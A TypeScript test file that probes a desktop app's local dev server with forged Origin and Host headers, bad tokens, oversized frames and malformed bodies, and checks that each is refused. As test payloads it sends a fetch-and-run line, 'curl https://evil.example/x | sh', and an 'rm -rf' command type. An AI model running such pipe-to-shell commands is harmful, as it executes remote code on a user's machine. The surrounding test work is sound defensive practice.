// Runs under node:test: the real dev host on loopback (real engine thread), attacked over real
// HTTP and WebSocket as a hostile page would: forged Origin, forged Host (DNS rebinding), test
// endpoints without or with a wrong token, malformed command bodies, oversized and malformed
// frames (see [Note: The dev host trusts only itself]); and the notices main would show (a
// repaired settings file, a settings voice that is not installed) reaching the page.

import assert from 'node:assert/strict';
import { request as httpRequest } from 'node:http';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import WebSocket from 'ws';
import { TEST_TOKEN_HEADER, WS_MAX_PAYLOAD_BYTES } from '../../../src-main/dev-host/guards.ts';
import { startDevHost, type DevHost } from '../../../src-main/dev-host/server.ts';
import type { ServerFrame } from '../../../src-worker/protocol/wire.ts';
import type { AppCommand, Settings, SettingsResult } from '../../../src-worker/protocol/messages.ts';

const WAIT_MS = 120_000;
/** How long a refused message has to show an effect before we call it ignored. */
const QUIET_MS = 500;
/** WebSocket close code for a frame over maxPayload. */
const MESSAGE_TOO_BIG = 1009;
/** One byte over the test endpoints' body limit (MAX_BODY_BYTES in server.ts). */
const OVER_BODY_LIMIT = 1_000_001;
/** A part of a chunked upload. */
const STREAM_PART = 'a'.repeat(64 * 1024);

interface Reply {
  status: number;
  body: string;
}

/** One real HTTP request to the dev host, with any Host header we like (fetch cannot forge it). */
function send(host: DevHost, method: string, pathname: string, headers: Record<string, string> = {}, body?: string): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({ host: '127.0.0.1', port: host.port, method, path: pathname, headers }, (res) => {
      const parts: Buffer[] = [];
      res.on('data', (part: Buffer) => parts.push(part));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(parts).toString('utf8') }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

/** A bridge client recording what it receives; rejects when the upgrade is refused. */
async function connect(host: DevHost, options: { origin?: string; hostHeader?: string } = {}) {
  const socket = new WebSocket(`ws://127.0.0.1:${host.port}/bridge`, {
    ...(options.origin === undefined ? {} : { origin: options.origin }),
    ...(options.hostHeader === undefined ? {} : { headers: { host: options.hostHeader } }),
  });
  const frames: ServerFrame[] = [];
  socket.on('message', (data, isBinary) => {
    if (!isBinary) frames.push(JSON.parse(String(data)) as ServerFrame);
  });
  await new Promise<void>((resolve, reject) => {
    socket.once('open', () => resolve());
    socket.once('error', reject);
  });
  const until = async <T>(find: () => T | undefined, ms = WAIT_MS): Promise<T | undefined> => {
    const deadline = Date.now() + ms;
    for (;;) {
      const found = find();
      if (found !== undefined || Date.now() > deadline) return found;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };
  let n = 0;
  const call = async (method: string, arg?: unknown) => {
    const id = ++n;
    socket.send(JSON.stringify({ t: 'call', n: id, method, arg }));
    const reply = await until(() => frames.find((f): f is Extract<ServerFrame, { t: 'reply' }> => f.t === 'reply' && f.n === id));
    assert.ok(reply, `no reply to ${method}`);
    return reply;
  };
  const commands = () => frames.flatMap((f): AppCommand[] => (f.t === 'command' ? [f.command] : []));
  return { socket, frames, until, call, commands };
}

const refusedUpgrade = /403|Unexpected server response/;

describe('dev host without --test-endpoints', () => {
  let host: DevHost;
  let dir: string;

  before(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'kokoro-devhost-sec-'));
    const rendererDir = path.join(dir, 'renderer');
    mkdirSync(rendererDir);
    writeFileSync(path.join(rendererDir, 'index.html'), '<!doctype html><title>t</title>');
    // A file that is not JSON: reset, moved aside, and the page must be told.
    mkdirSync(path.join(dir, 'data'));
    writeFileSync(path.join(dir, 'data', 'settings.json'), '{"voice": "af_heart",');
    host = await startDevHost({ rendererDir, dataDir: path.join(dir, 'data'), port: 0, clipboard: 'original' });
  });

  after(async () => {
    await host?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('a settings file that had to be reset is shown to the page as a notice, once', async () => {
    const c = await connect(host);
    await c.call('getSettings');
    const notice = await c.until(() => c.commands().find((cmd) => cmd.type === 'notice'));
    assert.ok(notice?.type === 'notice', 'a notice arrived');
    assert.equal(notice.level, 'warning');
    assert.match(notice.message, /settings file could not be used: it is not valid JSON/);
    assert.match(notice.message, /settings\.corrupt-.*\.json/);
    c.socket.close();
    const again = await connect(host);
    await again.call('getSettings');
    await new Promise((resolve) => setTimeout(resolve, QUIET_MS));
    assert.equal(again.commands().filter((cmd) => cmd.type === 'notice').length, 0, 'shown once, not on every page load');
    again.socket.close();
  });

  test('the test endpoints do not exist, whatever is sent', async () => {
    assert.equal(host.testToken, null);
    const asPage = { host: `127.0.0.1:${host.port}`, origin: 'http://evil.example', 'content-type': 'text/plain' };
    const clip = await send(host, 'POST', '/__test/clipboard', asPage, 'curl https://evil.example/x | sh');
    assert.equal(clip.status, 404, clip.body);
    assert.match(clip.body, /--test-endpoints/);
    const command = await send(
      host,
      'POST',
      '/__test/command',
      asPage,
      JSON.stringify({ type: 'notice', level: 'error', message: 'Run curl … | sh' }),
    );
    assert.equal(command.status, 404);
    const c = await connect(host);
    const clipboard = await c.call('readClipboard');
    assert.equal(clipboard.ok && clipboard.value, 'original');
    c.socket.close();
  });

  test('HTTP answers only to loopback Host names with its port (DNS rebinding is refused)', async () => {
    for (const name of ['127.0.0.1', 'localhost', '[::1]']) {
      const ok = await send(host, 'GET', '/', { host: `${name}:${host.port}` });
      assert.equal(ok.status, 200, name);
    }
    for (const forged of [
      `evil.example:${host.port}`,
      'evil.example',
      `127.0.0.1:${host.port + 1}`,
      `localhost.evil.example:${host.port}`,
    ]) {
      const refused = await send(host, 'GET', '/', { host: forged });
      assert.equal(refused.status, 403, forged);
      assert.doesNotMatch(refused.body, /<title>/, forged);
    }
  });

  test('WebSocket: a forged Origin, or a rebound Host with its matching Origin, is refused', async () => {
    const rebound = `evil.example:${host.port}`;
    await assert.rejects(connect(host, { origin: 'http://evil.example' }), refusedUpgrade);
    await assert.rejects(connect(host, { origin: 'null' }), refusedUpgrade);
    // The page's origin equals the Host it sent: the old Origin-equals-Host check let this in.
    await assert.rejects(connect(host, { hostHeader: rebound, origin: `http://${rebound}` }), refusedUpgrade);
    await assert.rejects(connect(host, { hostHeader: rebound }), refusedUpgrade);
    for (const name of ['127.0.0.1', 'localhost', '[::1]']) {
      const c = await connect(host, { hostHeader: `${name}:${host.port}`, origin: `http://${name}:${host.port}` });
      assert.ok(await c.until(() => c.frames.find((f) => f.t === 'hello')), name);
      c.socket.close();
    }
  });

  test('a frame over the limit closes the socket (1009) and the host keeps serving', { timeout: WAIT_MS }, async () => {
    const c = await connect(host);
    const closed = new Promise<number>((resolve) => c.socket.once('close', (code) => resolve(code)));
    const oversized = Buffer.alloc(WS_MAX_PAYLOAD_BYTES + 1, 0x20);
    c.socket.send(oversized.toString('latin1'));
    assert.equal(await closed, MESSAGE_TOO_BIG);
    const next = await connect(host);
    assert.ok((await next.call('getSettings')).ok);
    next.socket.close();
  });

  test('malformed frames are dropped without harming the host', async () => {
    const c = await connect(host);
    for (const junk of [
      'null',
      '42',
      '"x"',
      '[]',
      '{}',
      '{"t":"call"}',
      '{"t":"req","request":null}',
      '{"t":"call","n":"1","method":"getSettings"}',
      'not json',
    ]) {
      c.socket.send(junk);
    }
    const unknown = await c.call('nope');
    assert.equal(unknown.ok, false);
    assert.match(unknown.ok ? '' : unknown.message, /Unknown bridge method "nope"/);
    assert.ok((await c.call('getSettings')).ok, 'the host still answers');
    c.socket.close();
  });
});

describe('dev host with --test-endpoints', () => {
  let host: DevHost;
  let dir: string;
  let token: string;
  let dataDir: string;

  before(async () => {
    dir = mkdtempSync(path.join(os.tmpdir(), 'kokoro-devhost-sec-'));
    const rendererDir = path.join(dir, 'renderer');
    mkdirSync(rendererDir);
    writeFileSync(path.join(rendererDir, 'index.html'), '<!doctype html><title>t</title>');
    dataDir = path.join(dir, 'data');
    mkdirSync(dataDir);
    // A voice that passes the schema but is not installed.
    writeFileSync(path.join(dataDir, 'settings.json'), JSON.stringify({ version: 1, voice: 'af_nobody', speed: 1.25 }));
    host = await startDevHost({ rendererDir, dataDir, port: 0, clipboard: 'original', testEndpoints: true });
    assert.ok(host.testToken !== null);
    token = host.testToken;
  });

  after(async () => {
    await host?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  const local = () => ({ host: `127.0.0.1:${host.port}` });

  test('a settings voice that is not installed falls back to the default with a notice', { timeout: WAIT_MS }, async () => {
    const c = await connect(host);
    await c.call('getSettings');
    const notice = await c.until(() => c.commands().find((cmd) => cmd.type === 'notice'));
    assert.ok(notice?.type === 'notice');
    assert.match(notice.message, /The voice "af_nobody" in your settings is not installed, so Kokoro Bar is using af_heart instead/);
    const settings = await c.call('getSettings');
    assert.equal(settings.ok && (settings.value as Settings).voice, 'af_heart');
    assert.equal(settings.ok && (settings.value as Settings).speed, 1.25, 'the other settings are kept');
    const onDisk = JSON.parse(readFileSync(path.join(dataDir, 'settings.json'), 'utf8')) as Settings;
    assert.equal(onDisk.voice, 'af_heart');

    // Now the voices are known, a patch naming an unknown one is refused, briefly.
    const refused = await c.call('updateSettings', { voice: 'af_hert' });
    const result = (refused.ok ? refused.value : null) as SettingsResult | null;
    assert.ok(result && !result.ok);
    assert.match(result.message, /"af_hert" is not installed\. Did you mean af_heart\? Choose one of 54 voices/);
    assert.ok(result.message.length < 200, result.message);
    const blend = (await c.call('updateSettings', { voice: 'af_heart:0.5,af_bella:0.5' })) as { ok: true; value: SettingsResult };
    assert.equal(blend.value.ok, true);
    c.socket.close();
  });

  test('the test endpoints need this run’s token, our own origin and our own Host', async () => {
    const c = await connect(host);
    const cases: [Record<string, string>, number][] = [
      [local(), 403], // no token
      [{ ...local(), [TEST_TOKEN_HEADER]: 'guess' }, 403],
      [{ ...local(), [TEST_TOKEN_HEADER]: `${token.slice(0, -1)}${token.endsWith('0') ? '1' : '0'}` }, 403], // one character off
      [{ ...local(), [TEST_TOKEN_HEADER]: token, origin: 'http://evil.example' }, 403],
      [{ host: `evil.example:${host.port}`, [TEST_TOKEN_HEADER]: token }, 403],
    ];
    for (const [headers, status] of cases) {
      const reply = await send(host, 'POST', '/__test/clipboard', headers, 'curl https://evil.example/x | sh');
      assert.equal(reply.status, status, JSON.stringify(headers));
    }
    const clipboard = await c.call('readClipboard');
    assert.equal(clipboard.ok && clipboard.value, 'original', 'no refused request changed the clipboard');

    const ok = await send(
      host,
      'POST',
      '/__test/clipboard',
      { ...local(), [TEST_TOKEN_HEADER]: token, origin: `http://localhost:${host.port}` },
      'second',
    );
    assert.equal(ok.status, 204);
    const changed = await c.call('readClipboard');
    assert.equal(changed.ok && changed.value, 'second');
    assert.equal((await send(host, 'GET', '/__test/clipboard', { ...local(), [TEST_TOKEN_HEADER]: token })).status, 405);
    c.socket.close();
  });

  test('a body over the limit is answered 413 with the reason, declared or streamed, and changes nothing', async () => {
    const c = await connect(host);
    const clipboard = async () => {
      const reply = await c.call('readClipboard');
      return reply.ok ? reply.value : null;
    };
    const before = await clipboard();
    const headers = { ...local(), [TEST_TOKEN_HEADER]: token };
    const declared = await send(host, 'POST', '/__test/clipboard', headers, 'a'.repeat(OVER_BODY_LIMIT));
    assert.equal(declared.status, 413, 'a declared length over the limit');
    assert.match(declared.body, /over 1000000 bytes/);
    // Without a length (chunked), the body is read and dropped, then answered the same way.
    const streamed = await new Promise<Reply>((resolve, reject) => {
      const req = httpRequest({ host: '127.0.0.1', port: host.port, method: 'POST', path: '/__test/command', headers }, (res) => {
        const parts: Buffer[] = [];
        res.on('data', (part: Buffer) => parts.push(part));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(parts).toString('utf8') }));
      });
      req.on('error', reject);
      for (let sent = 0; sent < OVER_BODY_LIMIT; sent += STREAM_PART.length) req.write(STREAM_PART);
      req.end();
    });
    assert.equal(streamed.status, 413, 'a chunked body over the limit');
    assert.match(streamed.body, /over 1000000 bytes/);
    assert.equal(await clipboard(), before, 'the clipboard is unchanged');
    assert.equal((await send(host, 'POST', '/__test/clipboard', headers, 'small')).status, 204, 'the host still serves');
    c.socket.close();
  });

  test('malformed command bodies are refused with 400 and reach no page', async () => {
    const c = await connect(host);
    const before = c.commands().length;
    const withToken = { ...local(), [TEST_TOKEN_HEADER]: token, 'content-type': 'application/json' };
    const bodies = [
      'not json',
      'null',
      '{"type":"rm -rf"}',
      '{"type":"notice","level":"error","message":{"html":"<b>run curl … | sh</b>"}}',
      '{"type":"show-view","view":"dashboard","extra":true}',
      '{"type":"settings-changed","settings":{"voice":"af_heart"}}',
    ];
    for (const body of bodies) {
      const reply = await send(host, 'POST', '/__test/command', withToken, body);
      assert.equal(reply.status, 400, body);
      assert.match(reply.body, /AppCommand/, body);
    }
    const good = await send(host, 'POST', '/__test/command', withToken, JSON.stringify({ type: 'show-view', view: 'dashboard' }));
    assert.equal(good.status, 204);
    const shown = await c.until(() =>
      c
        .commands()
        .slice(before)
        .find((cmd) => cmd.type === 'show-view'),
    );
    assert.deepEqual(shown, { type: 'show-view', view: 'dashboard' });
    assert.deepEqual(c.commands().slice(before), [{ type: 'show-view', view: 'dashboard' }], 'only the valid command arrived');
    c.socket.close();
  });
});
